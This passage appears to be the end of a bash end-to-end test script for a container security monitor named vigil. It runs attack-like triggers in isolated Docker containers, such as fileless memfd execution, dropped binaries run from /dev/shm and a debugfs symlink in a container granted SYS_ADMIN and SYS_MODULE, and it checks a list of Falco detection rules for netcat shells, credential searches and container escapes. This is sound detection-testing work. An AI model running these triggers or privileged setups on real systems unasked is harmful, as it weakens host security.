	docker run --rm --network none "$IMG" vigil-testbin traceme >/dev/null 2>&1
	docker run --rm --network none --tmpfs /dev/shm:exec "$IMG" sh -c 'cp /bin/busybox /dev/shm/x && /dev/shm/x true' >/dev/null 2>&1
	docker run --rm --network none "$IMG" sh -c 'cp /bin/busybox /tmp/x && /tmp/x true' >/dev/null 2>&1
	docker run --rm --network none "$IMG" vigil-testbin memfd-exec /bin/busybox >/dev/null 2>&1
	docker run --rm --network none "$IMG" vigil-testbin spawn-as httpd /bin/sh -c true >/dev/null 2>&1
	# exec'd by path: busybox sh would run its login applet as "exe"
	docker run --rm --network none --user nobody "$IMG" vigil-testbin spawn-as getty /bin/login </dev/null >/dev/null 2>&1
	# privileged as Docker makes it (see t_container_config_and_caps)
	docker run --rm --network none --cap-add SYS_ADMIN --cap-add SYS_MODULE --security-opt systempaths=unconfined \
		"$IMG" sh -c 'ln -s /bin/busybox /tmp/debugfs && /tmp/debugfs true' >/dev/null 2>&1
	sleep 2
	kill -TERM "$pid"
	wait "$pid"
	fired=$(jq -r '.rules[]?' "$fout" 2>/dev/null | sort -u)
	echo "# Falco stable rules that fired:"
	echo "$fired" | sed 's/^/#   /'
	expected="Read sensitive file untrusted
Directory traversal monitored file read
Terminal shell in container
Netcat Remote Code Execution in Container
Search Private Keys or Passwords
Find AWS Credentials
Clear Log Activities
Remove Bulk Data from Disk
Create Symlink Over Sensitive Files
Create Hardlink Over Sensitive Files
Packet socket created in container
Redirect STDOUT/STDIN to Network Connection in Container
Detect release_agent File Container Escapes
PTRACE attached to process
PTRACE anti-debug attempt
Execution from /dev/shm
Drop and execute new binary in container
Fileless execution via memfd_create
Run shell untrusted
System user interactive
Debugfs Launched in Privileged Container"
	missing=""
	while read -r r; do
		echo "$fired" | grep -qxF "$r" || missing="$missing [$r]"
	done <<<"$expected"
	if [ -z "$missing" ] && grep -q "23 loaded, 2 skipped" "$ferr"; then
		ok "falco: the stable rules load (23 of 25, 2 skipped with a warning) and 21 fire on their triggers"
	else
		fail "falco: stable rules load and fire" "did not fire:$missing" "$(grep rules: "$ferr")"
	fi
}

t_host_not_reported() {
	cat /etc/hostname >/dev/null
	local marker=$TAG-marker
	run "$marker" -- true
	expect "(marker container seen)" "$marker" '.type == "exec"' >/dev/null
	if jq -e -c 'select(.container.id == "host")' "$OUT" >/dev/null 2>&1; then
		fail "host processes are not reported without --host" "$(jq -c 'select(.container.id == "host")' "$OUT" | head -2)"
	else
		ok "host processes are not reported without --host"
	fi
}

t_stats_command() {
	local s
	s=$("$VIGIL" stats --json 2>&1)
	if echo "$s" | jq -e --arg n "$TAG-early" \
		'(.kernel.events > 0) and (.kernel.ringbuf_full == 0) and
		 ([.containers[] | select(.name == $n and .syscalls_total > 0 and .syscalls.nanosleep >= 1)] | length == 1)' >/dev/null; then
		ok "vigil stats: kernel counters and per-container syscall counts"
	else
		fail "vigil stats: kernel counters and per-container syscall counts" "$(echo "$s" | head -c 600)"
	fi
}

t_json_valid_and_shutdown() {
	local lines parsed status
	kill -TERM "$vigil_pid"
	wait "$vigil_pid"
	status=$?
	vigil_pid=
	lines=$(wc -l <"$OUT")
	parsed=$(jq -c . "$OUT" 2>/dev/null | wc -l)
	if [ "$lines" -gt 0 ] && [ "$lines" = "$parsed" ]; then
		ok "every output line is valid JSON ($lines lines)"
	else
		fail "every output line is valid JSON" "lines=$lines parsed=$parsed"
	fi
	if [ "$status" = 0 ] && grep -q "vigil: stats: .* ringbuf_full=0 " "$ERR"; then
		ok "SIGTERM: clean exit with a final stats line and no ring-buffer drops"
	else
		fail "SIGTERM: clean exit with a final stats line" "status=$status" "$(tail -3 "$ERR")"
	fi
	grep "vigil: stats:" "$ERR" | sed 's/^/# /'
}

[ "$(id -u)" = 0 ] || { echo "e2e tests need root"; echo "0 passed, 1 failed"; exit 1; }
setup
t_exec_and_relative_open
t_open_symlink_dotdot
t_openat_dirfd
t_open_failed
t_host_bind_mount
t_io_uring
t_connect_outside
t_accept_bind_listen
t_container_to_container
t_file_mutations
t_privilege
t_dup_socket
t_open_aggregation
t_exec_flags
t_hostile_input
t_preexisting_container
t_short_lived
t_seccomp_profiles
t_default_rules
t_container_config_and_caps
t_rules_reload
t_benign_normal
t_host_not_reported
t_stats_command
t_json_valid_and_shutdown
t_drops_counted
t_falco_rules

echo "e2e: $passed passed, $failed failed"
[ "$failed" = 0 ]
